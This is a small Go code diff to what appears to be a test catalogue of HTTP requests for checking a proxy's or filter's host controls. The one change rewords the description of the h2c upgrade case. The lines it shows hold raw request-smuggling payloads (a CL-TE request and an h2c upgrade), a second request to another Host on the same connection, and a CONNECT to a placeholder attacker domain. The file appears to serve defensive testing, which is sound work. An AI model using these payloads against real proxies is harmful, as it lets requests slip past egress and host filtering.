@@ -36,7 +36,7 @@ func (c *catalogue) hosts() {
 		{"second-request", "an allowed request, and on the same connection one to another Host", HostHeader,
 			"GET /first HTTP/1.1\r\nHost: {H}\r\n\r\nGET /{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
 		{"connect", "CONNECT to the attacker", Fronting, "CONNECT {T}." + world.Attacker + ":443 HTTP/1.1\r\nHost: {T}." + world.Attacker + ":443\r\n\r\n"},
-		{"upgrade-h2c", "an upgrade to HTTP/2, in which nobody would look at names", Smuggling,
+		{"upgrade-h2c", "an upgrade to HTTP/2, in which names would not be checked", Smuggling,
 			"GET /{T} HTTP/1.1\r\nHost: {O}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"},
 		{"cl-te", "Content-Length and Transfer-Encoding, a request to another Host inside", Smuggling,
 			"POST /first HTTP/1.1\r\nHost: {H}\r\nContent-Length: 200\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
